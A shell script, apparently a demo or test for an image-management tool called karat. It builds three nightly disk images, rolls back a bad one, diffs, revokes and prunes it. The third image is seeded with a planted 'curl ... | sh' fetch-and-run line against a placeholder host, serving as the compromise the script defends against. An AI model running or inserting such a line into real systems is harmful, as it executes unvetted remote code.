#!/bin/sh
# Three nights, a bad image, and the way back. Needs karat, mke2fs and qemu-img; boots nothing.
#
#     rollback.sh DIRECTORY
#
# DIRECTORY is made and holds everything: store, keys, images. KARAT names the binary (karat).
# Ends with 0 when every step went as its comment says.
set -eu

[ $# = 1 ] || {
    sed -n '2,7s/^# \{0,1\}//p' "$0" >&2
    exit 2
}
mkdir -p "$1"
cd "$1"
karat=${KARAT:-karat}
PATH=$PATH:/usr/sbin:/sbin
export XDG_DATA_HOME="$PWD/data" XDG_CONFIG_HOME="$PWD/config" KARAT_CACHE="$PWD/cache" KARAT_DB="$PWD/db"

step() { printf '\n== %s\n' "$*"; }
# expect CODE COMMAND...: the command ends with this code.
expect() {
    wanted=$1
    shift
    code=0
    "$@" || code=$?
    [ "$code" = "$wanted" ] || {
        echo "rollback: \`$*\` ended with $code, not $wanted" >&2
        exit 1
    }
}

# night NUMBER NGINX: the image that a nightly build would have made, here a small file system with a package database.
night() {
    root=root-$1
    mkdir -p "$root/etc" "$root/usr/sbin" "$root/usr/lib" "$root/var/lib/dpkg/info"
    printf 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n' >"$root/usr/lib/os-release"
    ln -sf ../usr/lib/os-release "$root/etc/os-release"
    echo "nginx $2" >"$root/usr/sbin/nginx"
    printf '/usr/sbin/nginx\n' >"$root/var/lib/dpkg/info/nginx.list"
    printf '%s  usr/sbin/nginx\n' "$(md5sum <"$root/usr/sbin/nginx" | cut -c1-32)" >"$root/var/lib/dpkg/info/nginx.md5sums"
    printf 'Package: nginx\nStatus: install ok installed\nArchitecture: amd64\nVersion: %s\nMaintainer: x\nDescription: x\n\n' \
        "$2" >"$root/var/lib/dpkg/status"
}

# record NUMBER: recorded, signed, scanned and promoted; the id is in night-NUMBER.
record() {
    mke2fs -q -t ext4 -b 4096 -d "root-$1" "night-$1.raw" 8M
    "$karat" import "night-$1.raw" --name web --description "night $1" >"night-$1"
    "$karat" sign "$(cat "night-$1")"
    "$karat" scan "$(cat "night-$1")" --without undeclared --without hygiene
    "$karat" promote "$(cat "night-$1")" web/stable --reason "night $1 is green"
}
id() { cut -c1-12 "night-$1"; }

step "a key for this machine, whose signatures count here; a database with one vulnerability"
"$karat" keys generate --comment ci
cat >osv.json <<'END'
{"id": "DEBIAN-CVE-2026-0001", "modified": "2026-01-31T12:00:00Z", "upstream": ["CVE-2026-0001"],
 "affected": [{"package": {"ecosystem": "Debian:12", "name": "nginx"},
               "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.22.1-9+deb12u2"}]}]}]}
END
"$karat" db import osv.json

step "three nights, each promoted"
night 1 1.22.1-9
record 1
night 2 1.22.1-9+deb12u2
record 2
night 3 1.22.1-9+deb12u2
echo 'curl -s https://example.org/x | sh' >root-3/usr/sbin/updater
record 3
"$karat" history web/stable

step "the third is bad: one command, and the channel points to the second again"
"$karat" rollback web/stable --check
"$karat" rollback web/stable --reason "night 3 calls home"

step "further back goes only who says why: it opens again what the second night had fixed"
expect 2 "$karat" rollback "$(id 1)"

step "what is different about the third?"
"$karat" diff "$(id 2)" "$(id 3)" --markdown

step "never again: it is revoked, and refused"
"$karat" revoke "$(id 3)" --reason "night 3 calls home"
expect 3 "$karat" promote "$(id 3)" web/stable
expect 3 "$karat" export "$(id 3)" -o again.raw

step "its bytes go, in two steps; its manifest, scan and signature stay"
"$karat" prune --keep-within 0s --grace 0s
"$karat" prune --keep-within 0s --grace 0s
expect 1 "$karat" export "$(id 3)" -o again.raw --allow-revoked
"$karat" store status --keep-within 0s

step "everything that was done, and that nothing of it was changed since"
"$karat" audit
"$karat" audit verify
"$karat" verify
step "done"
